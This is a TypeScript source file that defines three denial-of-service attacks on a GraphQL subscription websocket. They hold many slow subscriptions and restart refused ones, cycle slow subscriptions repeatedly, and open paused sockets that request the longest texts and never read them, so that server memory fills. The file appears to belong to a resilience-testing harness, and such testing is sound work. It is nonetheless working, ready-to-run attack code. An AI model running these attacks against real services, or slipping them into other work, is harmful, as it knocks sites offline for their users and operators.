import type { Attack } from './attack.ts';
import { openGraphqlSocket } from './graphql-socket.ts';
import { persistently } from './persistently.ts';
import { slowOperation } from './slow-pattern.ts';

/** Milliseconds after which a refused subscription is begun again. */
const AGAIN_MS = 500;

/** Holds eight subscriptions on one socket whose statement takes seconds; a refused one is begun again. */
export const slowSubscriptions: Attack = ({ url }) =>
  persistently(async (count) => {
    let serial = 0;
    const begin = () => {
      serial += 1;
      subscriber.subscribe(String(serial), slowOperation('subscription'));
    };
    const subscriber = await openGraphqlSocket({ url, address: '203.0.113.2' }, ({ type }) => {
      count(type);
      if (type === 'error' || type === 'complete') setTimeout(beginAgain, AGAIN_MS).unref();
    });
    const beginAgain = () => {
      if (subscriber.socket.readyState === subscriber.socket.OPEN) begin();
    };
    for (let at = 0; at < 8; at += 1) begin();

    return subscriber.socket;
  });

const CYCLES = 24;
const CYCLE_MS = 50;
/** Milliseconds between the starts of two rows of cycles. */
const ROW_MS = 5_000;

/** Begins and completes subscriptions whose statement takes seconds: 24 of them, one after the other, every 5 s. */
export const subscribeCycles: Attack = ({ url }) =>
  persistently(async (count) => {
    const { socket, subscribe, complete } = await openGraphqlSocket(
      { url, address: '203.0.113.3' },
      ({ type }) => count(type),
    );
    let serial = 0;
    const cycle = () => {
      if (socket.readyState !== socket.OPEN) return;
      serial += 1;
      const id = String(serial);
      subscribe(id, slowOperation('subscription'));
      setTimeout(() => {
        if (socket.readyState === socket.OPEN) complete(id);
        if (serial % CYCLES !== 0) cycle();
      }, CYCLE_MS).unref();
    };
    cycle();
    const timer = setInterval(cycle, ROW_MS);
    socket.once('close', () => clearInterval(timer));

    return socket;
  });

const SOCKETS = 8;
const SUBSCRIPTIONS = 100;
const PING_MS = 1_000;
/** Each state has the longest texts that the site allows. */
const LONG_TEXTS =
  'subscription ($title: String!) { legal_pages(where: {title: {_neq: $title}}, limit: 1) { body body_ar } }';

let titles = 0;

/** Holds a hundred subscriptions of distinct values on each of eight sockets and never reads a byte of their states. */
export const unreadSockets: Attack = async (target) => {
  const sockets = await Promise.all(Array.from({ length: SOCKETS }, () => unreadSocket(target)));

  return {
    stop: async () => {
      const outcomes = await Promise.all(sockets.map((socket) => socket.stop()));
      const counts = outcomes.flatMap((outcome) => Object.values(outcome));
      return { 'sockets cut': counts.reduce((sum, count) => sum + count, 0) };
    },
  };
};

const unreadSocket: Attack = ({ url }) =>
  persistently(async () => {
    const { socket, subscribe } = await openGraphqlSocket({ url, address: '203.0.113.4' });
    socket.pause();
    for (let at = 0; at < SUBSCRIPTIONS; at += 1) {
      titles += 1;
      subscribe(String(at), { query: LONG_TEXTS, variables: { title: `Title ${titles}` } });
    }
    // A socket that reads nothing learns only by writing that it was cut.
    const timer = setInterval(() => socket.ping(), PING_MS);
    socket.once('close', () => clearInterval(timer));

    return socket;
  });
